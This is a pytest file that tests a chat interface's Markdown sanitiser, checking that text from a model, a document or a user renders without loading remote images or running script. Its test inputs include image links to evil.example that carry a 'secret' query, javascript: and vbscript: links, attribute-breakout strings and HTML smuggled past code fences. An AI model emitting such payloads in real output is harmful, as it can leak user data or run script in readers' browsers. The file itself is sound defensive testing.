"""What a model, a document or a user writes is rendered without loading or running anything."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from app.ui.rendering import answer_markdown, literal, safe_markdown, typed_back, typed_text


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        '![x]( <http://evil.example/a.png> "title")',
        "![x][ref]\n\n[ref]: http://evil.example/a.png",
        "<img src=http://evil.example/a.png>",
        "<IMG SRC='http://evil.example/a.png'/>",
        "<svg><image href='http://evil.example/a.png'/></svg>",
        "<video poster=http://evil.example/p.png>",
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    ],
)
def test_nothing_remote_is_left_to_load(text: str) -> None:
    shown = safe_markdown(text)
    assert "](http" not in shown and "<img" not in shown.lower() and "<svg" not in shown and "<video" not in shown
    assert "<image" not in shown and "<svg" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "[go](javascript:alert(1))",
        "[go]( JavaScript:alert(1))",
        "[go](vbscript:x)",
        "[go](data:text/html,<b>x</b>)",
        "[go][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<a href='javascript:alert(1)'>go</a>",
    ],
)
def test_script_links_lose_their_target(text: str) -> None:
    shown = safe_markdown(text).lower()
    assert 'href="javascript' not in shown and 'href="vbscript' not in shown and 'href="data' not in shown
    assert "<a " not in shown


@pytest.mark.parametrize(
    "text",
    [
        'a mid-line ~~~ then <img src="http://evil.example/a.png"> <a href="http://e/">live</a> <style>p{}</style>',
        'a mid-line ``` then <img src="http://evil.example/a.png"> <a href="http://e/">live</a> <style>p{}</style>',
        'an escaped \\` then <img src="http://evil.example/a.png"> <a href="http://e/">live</a> <style>p{}</style>',
        "```\nfenced\n```\n<img src=http://evil.example/a.png>\n\n<style>p{}</style>",
        "<details><summary>x</summary><iframe src=http://e/></iframe></details>",
        "<!-- <img src=http://evil.example/a.png> -->",
    ],
)
def test_raw_html_anywhere_is_text_not_an_element(text: str) -> None:
    """What fooled the regexes (mid-line fences, an escaped backtick): the parser shows every tag as text."""
    shown = safe_markdown(text)
    for tag in ("<img", "<a ", "<style", "<iframe", "<details", "<!--"):
        assert tag not in shown, f"{tag} in {shown}"
    assert "&lt;" in shown


def test_the_result_is_one_html_block_for_the_pages_renderer() -> None:
    """One line in one <div>: a blank line (in a code block here) would hand the rest back to the page's
    Markdown renderer, which would make `![x](http…)` an image again."""
    shown = safe_markdown("```\n![x](http://evil.example/a.png)\n\n![y](http://evil.example/b.png)\n```")
    assert shown.startswith('<div class="q-md">') and shown.endswith("</div>") and "\n" not in shown


def test_code_and_ordinary_text_are_shown_as_written() -> None:
    code = safe_markdown('```html\n<img src="http://x/a.png">\n```')
    assert (
        code
        == '<div class="q-md"><pre><code class="language-html">&lt;img src="http://x/a.png"&gt;&#10;</code></pre></div>'
    )
    assert "<code>&lt;b&gt;</code>" in safe_markdown("use `<b>` here")
    ordinary = safe_markdown("a < b and 3<4, **bold** [docs](https://example.com/docs)")
    assert 'a &lt; b and 3&lt;4, <strong>bold</strong> <a href="https://example.com/docs"' in ordinary
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">' in safe_markdown(
        "![dot](data:image/png;base64,iVBORw0KGgo=)"
    )
    assert safe_markdown("中文回答，没有图片。") == '<div class="q-md"><p>中文回答，没有图片。</p></div>'
    assert safe_markdown("one\ntwo") == '<div class="q-md"><p>one<br>&#10;two</p></div>'  # a newline is a break
    assert safe_markdown("  \n") == ""


def test_a_remote_image_still_says_what_it_was() -> None:
    assert "chart" in safe_markdown("![chart](http://x/c.png)")


def test_a_file_name_with_markup_is_shown_as_text() -> None:
    shown = literal("<img src=x onerror=alert(1)> [a](javascript:x) *b*.pdf")
    assert "<img" not in shown and "](javascript" not in shown and "*b*" not in shown


@pytest.mark.parametrize(
    "text", ['Say "hi" & <b>x</b>\n\n```\na\n\nb\n```', '" onmouseover="alert(1)', "line one\r\nline two $x$"]
)
def test_an_answer_carries_its_markdown_for_copy_and_nothing_breaks_out(text: str) -> None:
    """Copy gives the answer's Markdown (issue 22): it rides in the wrapper's `data` attribute, escaped, on
    the one line, and the source cannot close the attribute or the tag."""
    import html
    import re

    shown = answer_markdown(text)
    assert "\n" not in shown and "\r" not in shown
    head = re.fullmatch(r'<div class="q-md" data="([^"<>]*)">(.*)</div>', shown)
    assert head, shown
    assert html.unescape(head.group(1)) == text.replace("\r", "")
    assert head.group(2) == safe_markdown(text).removeprefix('<div class="q-md">').removesuffix("</div>")
    assert answer_markdown("  ") == ""


# The page's own Markdown renderer, as far as Python has one: CommonMark with raw HTML on (Gradio's is marked).
_PAGE = MarkdownIt("commonmark", {"html": True})


def test_a_persons_html_block_is_shown_once_escaped() -> None:
    """Issue 47, item 15: a ```html block holding `</code></pre>` in a person's message showed
    `&lt;/code&gt;&lt;/pre&gt;`: the text was escaped, and the page's renderer escapes code again."""
    typed = "Why does this break?\n```html\n<pre><code>x</code></pre>\n```\nand <b>this</b> & [that](http://e/)"
    shown = typed_text(typed)
    page = _PAGE.render(shown)
    assert '<code class="language-html">&lt;pre&gt;&lt;code&gt;x&lt;/code&gt;&lt;/pre&gt;\n</code></pre>' in page
    assert "&amp;lt;" not in page and "<b>" not in page and "<a " not in page  # outside the code: their words
    assert "&lt;b&gt;this&lt;/b&gt; &amp; " in shown and "&#91;that" in shown
    assert typed_back(shown) == typed
    entities = "```html\n<p>a&amp;b</p>\n```"  # a fence holding what the escaping writes is escaped whole
    assert typed_text(entities) == "```html\n&lt;p&gt;a&amp;amp;b&lt;/p&gt;\n```"
    assert typed_back(typed_text(entities)) == entities


@pytest.mark.parametrize(
    "typed",
    [
        "> ```\n> <img src=http://evil.example/a.png>\n> ```",  # in a quote (which the escaping undoes)
        "- item\n  ```\n  <img src=http://evil.example/a.png>\n  ```",  # in a list item
        "  ```\n<img src=http://evil.example/a.png>\n```\n<img src=http://evil.example/b.png>\n```",  # indented
        "```\n<img src=http://evil.example/a.png>",  # never closed
        "```html\n<i>x</i>\n  ```\n<img src=http://evil.example/a.png>\n```",  # closed by an indented fence
        "````\n```\n<i>x</i>\n```\n````\n<img src=http://evil.example/a.png>",  # a fence in a longer one
        "```x <img src=http://evil.example/a.png>\n<i>x</i>\n```",  # markup in the info string
    ],
)
def test_outside_a_fence_the_page_forms_no_element_from_a_persons_message(typed: str) -> None:
    shown = typed_text(typed)
    page = _PAGE.render(shown)
    assert "<img" not in page and "<i>" not in page, (shown, page)
    assert typed_back(shown) == typed
